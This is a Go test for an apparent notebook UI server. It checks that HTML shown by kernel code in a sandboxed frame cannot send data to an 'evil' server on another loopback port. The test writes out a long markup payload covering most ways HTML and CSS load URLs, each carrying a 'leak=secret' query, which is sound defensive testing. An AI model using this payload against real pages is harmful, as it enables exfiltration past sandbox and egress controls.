package main

import (
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestUIBrowserKernelExfil is the attack of kernel code that shows HTML
// on the page to send what it read out through the person's browser,
// past the sandbox's egress rules: every way markup loads a URL of its
// own (images, srcset, stylesheets, @import and CSS urls, prefetch and
// preload, icons, meta refresh, frames, objects, media, SVG images, a
// base URL, script) points at a server on another loopback port. The
// page's frame is sandboxed and inherits the page's CSP: the server gets
// no request. (A TCP connection without a request, as a preconnect
// makes, is logged, not failed.)
func TestUIBrowserKernelExfil(t *testing.T) {
	var mu sync.Mutex
	var hits []string
	conns := 0
	evil := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hits = append(hits, r.Method+" "+r.URL.String())
		mu.Unlock()
	}))
	evil.Config.ConnState = func(_ net.Conn, st http.ConnState) {
		if st == http.StateNew {
			mu.Lock()
			conns++
			mu.Unlock()
		}
	}
	evil.Start()
	t.Cleanup(evil.Close)
	srv, tokens := startUIServer(t)
	base := strings.TrimSuffix(srv.url, "/mcp")
	br := startBrowser(t, base, t.TempDir())
	alice := uiMCPClient(t, srv.url, tokens["alice"])
	br.do(map[string]any{"cmd": "login", "who": "alice", "token": tokens["alice"]}, nil)

	e := evil.URL + "/?leak=secret&via="
	markup := strings.NewReplacer("E/", e).Replace(`<base href="E/base/">
<img src="E/img"><img srcset="E/srcset 1x"><picture><source srcset="E/source"><img src="data:,"></picture>
<link rel="stylesheet" href="E/css"><link rel="prefetch" href="E/prefetch"><link rel="preload" as="image" href="E/preload">
<link rel="icon" href="E/icon"><link rel="preconnect" href="E/preconnect"><link rel="dns-prefetch" href="E/dns">
<meta http-equiv="refresh" content="0;url=E/refresh">
<iframe src="E/iframe"></iframe><object data="E/object"></object><embed src="E/embed">
<video poster="E/poster" src="E/video"></video><audio src="E/audio" autoplay></audio><input type="image" src="E/input">
<table background="E/table"><tr><td>t</td></tr></table>
<svg xmlns="http://www.w3.org/2000/svg"><image href="E/svgimage" width="10" height="10"/></svg>
<style>@import url("E/import"); body { background: url("E/stylebg") }</style>
<div style="background: url('E/inline')">styled</div>
<script src="E/script"></script><img src="relative-to-base">
<p>exfil markup shown</p>`)
	uiRun(t, alice, "from IPython.display import HTML, display\ndisplay(HTML("+pyString(markup)+"))")
	uiRun(t, alice, "print('after the exfil markup')")
	br.do(map[string]any{"cmd": "waitfor", "who": "alice", "selector": "#cells", "text": "after the exfil markup"}, nil)
	var loaded struct{ N int }
	br.do(map[string]any{"cmd": "framesloaded", "who": "alice"}, &loaded)
	var f struct{ Rendered []string }
	br.do(map[string]any{"cmd": "frames", "who": "alice"}, &f)
	if loaded.N == 0 || !strings.Contains(strings.Join(f.Rendered, ""), "exfil markup shown") {
		t.Fatalf("the markup frame did not render: %d frames, %q", loaded.N, f.Rendered)
	}
	// A meta refresh of 0 s navigates after the load: a second, bounded,
	// for it (and for anything a load queued).
	time.Sleep(time.Second)
	mu.Lock()
	defer mu.Unlock()
	t.Logf("the other port's server: %d requests, %d connections", len(hits), conns)
	if len(hits) > 0 {
		t.Errorf("kernel markup on the page reached a server on another port: %q", hits)
	}
}

// pyString is s as a Python string literal.
func pyString(s string) string {
	return "'" + strings.NewReplacer(`\`, `\\`, `'`, `\'`, "\n", `\n`).Replace(s) + "'"
}
